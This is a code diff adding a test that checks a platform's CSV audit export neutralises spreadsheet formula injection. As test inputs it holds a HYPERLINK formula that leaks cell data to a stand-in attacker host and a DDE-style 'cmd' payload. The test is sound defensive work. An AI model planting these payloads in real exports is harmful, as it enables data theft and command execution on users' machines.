@@ -1,6 +1,6 @@
 import { afterAll, beforeAll, describe, expect, it } from "vitest";
 import type { AuditEntry } from "../../server/contract";
-import { parseCsv } from "../../server/platform/exports/csv";
+import { csv, parseCsv } from "../../server/platform/exports/csv";
 import { createPlatform, objectStub, type Platform, type TestMember, type TestOperator } from "../helpers/platform";
 import { fastPair } from "./game-helpers";
 import {
@@ -285,6 +285,26 @@ describe("a day's files", () => {
       finance.key,
     );
     expect(auditByFinance.envelope.message).toBe("operator_role_missing");
+  });
+
+  it("never hand a spreadsheet a formula: a text that starts like one is written as text", async () => {
+    // an admin names an operator like a formula; the operator acts, and the audit file names them
+    const formula = '=HYPERLINK("https://evil.example/?"&A1,"open")';
+    const named = await platform.createOperator({ name: formula, sites: [SITE], roles: ["support"] });
+    const acted = await platform.operator("operatorSmsLog", { params: { siteId: SITE }, query: {} }, named.key);
+    expect(acted.envelope.statusCode, acted.envelope.message).toBe(200);
+    const { envelope } = await platform.operator("operatorExport", {
+      params: { siteId: SITE, day: utcDay(Date.now()) },
+      query: { kind: "audit" },
+    });
+    const [header, ...rows] = parseCsv(envelope.data!.files[0]!.csv);
+    const name = rows.find((r) => r[header!.indexOf("operator_id")] === named.id)?.[header!.indexOf("operator_name")];
+    expect(name).toBe(`'${formula}`);
+    // the same for each character a spreadsheet starts a formula with; ids and accounts (which
+    // can name no function) and numbers are written as they are
+    expect(csv(["v"], [["+1"], ["-2+cmd|' /C calc'!A0"], ["@SUM(A1)"], ["\t=1"], ["-Ab_9"], [-5], ["plain"]])).toBe(
+      "v\r\n'+1\r\n'-2+cmd|' /C calc'!A0\r\n'@SUM(A1)\r\n'\t=1\r\n-Ab_9\r\n-5\r\nplain\r\n",
+    );
   });
 
   it("are written to R2 for the day before by the daily run", async () => {
